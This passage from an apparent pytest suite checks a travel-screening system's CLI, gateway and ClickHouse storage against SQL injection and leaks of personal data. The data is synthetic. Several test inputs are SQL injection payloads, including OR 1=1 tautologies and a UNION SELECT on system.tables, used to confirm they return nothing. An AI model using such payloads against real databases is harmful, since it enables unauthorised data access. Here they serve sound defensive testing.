    env = _engine_env(store, request, tmp_path)
    runner = CliRunner()
    for office in ("x' OR 1=1 --", "KANIM-SH' OR '1'='1' --"):
        result = runner.invoke(pora, ["report", "tppo-screening", "--office", office, "--format", "json"], env=env)
        assert result.exit_code == 0 and json.loads(result.output) == [], result.output
    for flag in ("--from", "--to"):
        result = runner.invoke(pora, ["report", "alert-funnel", flag, "2026-03-01' OR '1'='1"], env=env)
        assert result.exit_code == 2 and "is not a date" in result.output, result.output


def test_person_history_takes_the_key_as_a_value(store: Store, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    DATA.load(store)
    env = _engine_env(store, request, tmp_path)
    settings = Settings(
        clickhouse_url=env["PORA_CLICKHOUSE_URL"], clickhouse_database=store.database, state_dir=tmp_path
    )
    history = person_history(settings)
    crossings, _ = history("pk_A")
    assert sorted(c[2] for c in crossings) == ["TPI-BATAM", "TPI-SH"]
    for key in ("pk_A' OR '1'='1", "pk_A\\' OR 1=1 --", "x' UNION SELECT name, '', '', '' FROM system.tables --"):
        assert history(key) == ([], []), key


# ====================================================================== privacy: every column of every table


def every_column(store: Store) -> Iterator[tuple[str, str, Any]]:
    """(table, column, value) for every value of every column of every table of the database, as
    system.columns lists them (array items one by one)."""
    db = store.database
    columns = store.query(f"SELECT table, name FROM system.columns WHERE database = {sql_string(db)}").rows
    assert columns, db
    for table, column in columns:
        for (value,) in store.query(f"SELECT `{column}` FROM {db}.`{table}`").rows:
            for item in value if isinstance(value, list | tuple) else (value,):
                yield table, column, item


@dataclass
class Hostile:
    """A source's input that the gateway refuses, with the identities in it."""

    what: str
    path: str
    body: bytes
    people: list[dict[str, Any]]
    content_type: str = "application/json"
    source: str = "hotel"


def hostile_inputs() -> list[Hostile]:
    f = SampleFactory(seed=77)
    people = [f.identity("GBR") for _ in range(7)]
    for i, p in enumerate(people):  # names no simulated traveller has
        p["surname"], p["given_names"] = f"Zed{i}ova", f"Quincy{i}"
    out = []
    headerless = [
        f"2026-11-01 10:0{i},GBR,{p['document_number']},{p['surname']},2026-11-01" for i, p in enumerate(people[:2])
    ]
    out.append(
        Hostile(
            "a register without its header row",
            "/v1/registers/hotel-guests",
            "\n".join(headerless).encode(),
            people[:2],
            "text/csv",
        )
    )

    def event(p: dict[str, Any], **changes: Any) -> dict[str, Any]:
        return {**f.hotel_check_in(HOTEL, guest=dict(p)), **changes}

    keyed = event(people[2])
    keyed[people[2]["document_number"]] = f"{people[2]['given_names']} {people[2]['surname']}"
    out.append(
        Hostile(
            "a JSON key made of a passport number", "/v1/events/hotel-guest-events", orjson.dumps(keyed), [people[2]]
        )
    )
    born = dict(people[3])
    born["date_of_birth"] = born["date_of_birth"][:5] + "02-30"  # no such day: the validator quotes it back
    out.append(
        Hostile("an impossible date of birth", "/v1/events/hotel-guest-events", orjson.dumps(event(born)), [born])
    )
    named = event(people[4], action=f"{people[4]['given_names']} {people[4]['surname']}")
    out.append(Hostile("a name where an enum goes", "/v1/events/hotel-guest-events", orjson.dumps(named), [people[4]]))
    other = event(people[5], establishment={**HOTEL, "establishment_id": "EST-DPS-0001"})
    out.append(Hostile("a guest of another hotel", "/v1/events/hotel-guest-events", orjson.dumps(other), [people[5]]))
    broken = orjson.dumps(event(people[6]))[:-40]
    out.append(Hostile("JSON cut short", "/v1/events/hotel-guest-events", broken, [people[6]]))
    return out


def test_no_name_document_number_or_birth_date_reaches_any_column(
    gateway: RunningGateway,
    topics: dict[str, str],
    topic_prefix: str,
    kafka_bootstrap: str,
    server_store: ServerStore,
    chdb_store: ChdbStore,
    tmp_path: Path,
) -> None:
    settings = sink_settings(kafka_bootstrap, topic_prefix, sink_batch_rows=2000, feed_port=free_port())
    loaded = simulation(tmp_path)
    hostile = hostile_inputs()
    with detector_workers(settings, 1):
        replay_lines(settings, loaded.lines, tmp_path / "replay.jsonl")  # the simulated month, as `system`
        for h in hostile:  # then what real sources get wrong, over HTTP with their own keys
            status, body, _ = gateway.post(h.path, h.body, source=h.source, content_type=h.content_type)
            assert status in (400, 403, 422), (h.what, status, body)
        alerts = alerts_when_settled(settings, quiet_s=3)
    assert alerts, "the detectors raised nothing"

    # an officer triages one, typing a traveller's name into the comment, and one into a wrong field
    traveller = next(e["traveller"] for e in loaded.raw_events if "traveller" in e and e["traveller"]["surname"])
    typed = f"{traveller['given_names']} {traveller['surname']} ({traveller['document_number']})"
    users = UserStore()
    users.add(User("sup", "admin", frozenset(), frozenset(), hash_password(PASSWORD)))
    with FeedThread(settings, users, history=lambda key: ([], [])) as feed_thread:
        board = feed_thread.board
        assert board is not None
        wait_for(lambda: len(board.alerts) > 0, "the alerts in the feed")
        aid = next(iter(board.alerts))
        officer = Client(feed_thread.url)
        officer.login("sup")
        token = officer.csrf()
        assert officer.act(aid, {"action": "COMMENT", "comment": f"met {typed} at the hotel"}, token)[0] == 201
        assert officer.act(aid, {"action": "ASSIGN", "assignee": "officer-budi"}, token)[0] == 201
        assert officer.act(aid, {"action": typed}, token)[0] == 422  # a dead letter of its own

    pattern = identity_pattern([*loaded.raw_events, *({"guest": p} for h in hostile for p in h.people)])
    pattern = re.compile(pattern.pattern, re.IGNORECASE)  # refused input is quoted back in any case
    letters = read_topic(kafka_bootstrap, settings.topic(topic_names.DEAD_LETTERS))
    held = [lt.record for lt in letters if lt.record is not None and pattern.search(repr(lt.record))]
    assert len(held) >= len(hostile) + 1, "the dead-letter topic holds the identities (officers read them there)"

    expected = on_topics(settings)
    assert expected.by_table["dead_letters"] >= len(hostile) + 1
    for engine in (server_store, chdb_store):
        migrate(engine)
        drain(settings, engine, expected.records, group=f"{topic_prefix}privacy-{type(engine).__name__}")
        scanned: dict[str, int] = {}
        for table, column, value in every_column(engine):
            scanned[table] = scanned.get(table, 0) + 1
            hit = pattern.search(str(value))
            assert hit is None, f"{engine.target}: {table}.{column} holds {hit.group()!r}: {value!r}"
        assert set(scanned) >= {*(t.name for t in TABLES.values()), "schema_migrations"}, scanned
        assert sum(scanned.values()) > 5_000, scanned
        db = engine.database
        dead = engine.query(f"SELECT count() FROM {db}.dead_letters FINAL").rows[0][0]
        assert int(dead) == expected.by_table["dead_letters"]
        # TPPO indicators are about the journey: no ethnicity, religion or gender in any alert
        texts = engine.query(f"SELECT evidence_names, reasons FROM {db}.alerts").rows
        assert texts
        assert not re.search(r"ethnic|religio|gender|\bsex\b|\brace\b", repr(texts), re.IGNORECASE)
